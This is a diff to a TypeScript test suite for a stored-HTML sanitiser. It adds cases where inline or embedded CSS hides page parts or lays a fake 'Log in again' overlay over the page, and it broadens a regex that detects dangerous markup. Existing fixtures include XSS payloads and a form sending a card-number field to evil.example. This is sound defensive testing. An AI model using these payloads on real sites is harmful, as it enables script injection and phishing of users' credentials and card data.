@@ -16,6 +16,10 @@ const HOSTILE: Array<[string, string]> = [
   ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
   ['<object data="https://evil.example/x.swf"></object><embed src="x.swf">', ''],
   ['<style>body{display:none}</style><p>x</p>', '<p>x</p>'],
+  // Styles reach the whole page: hide the site's header, or lay a fake form over everything.
+  ['<p>x</p><style>header{display:none}</style>', '<p>x</p>'],
+  ['<div style="position:fixed;inset:0;z-index:99">Log in again</div>', '<div>Log in again</div>'],
+  ['<p><span style="display:none">hidden</span> shown</p>', '<p><span>hidden</span> shown</p>'],
   ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><mi>x</mi></math>'],
   [
     '<form action="https://evil.example/"><input name="pan"><textarea></textarea><button>Verify</button></form>',
@@ -35,7 +39,7 @@ const RICH =
   '<a href="/madhava-seva/past-events/3">the last one</a> <a href="mailto:seva@example.org">write</a></p>';
 
 /** Markup that can run script or reach out of the page, in any case or spelling. */
-const DANGEROUS = /<script|<iframe|<object|<embed|<form|<input|<style|javascript:|\son\w+=/i;
+const DANGEROUS = /<script|<iframe|<object|<embed|<form|<input|<style|\sstyle=|javascript:|\son\w+=/i;
 
 describe('the stored-HTML sanitiser (DOMPurify, for saves)', () => {
   let sanitize: HtmlSanitizer;
@@ -50,7 +54,7 @@ describe('the stored-HTML sanitiser (DOMPurify, for saves)', () => {
   it.each(HOSTILE)('makes %s harmless', (hostile, clean) => {
     const result = sanitize(hostile);
     expect(result).toBe(clean);
-    expect(result).not.toMatch(/<script|<iframe|javascript:|\son\w+=/i);
+    expect(result).not.toMatch(/<script|<iframe|<style|\sstyle=|javascript:|\son\w+=/i);
   });
 });
 
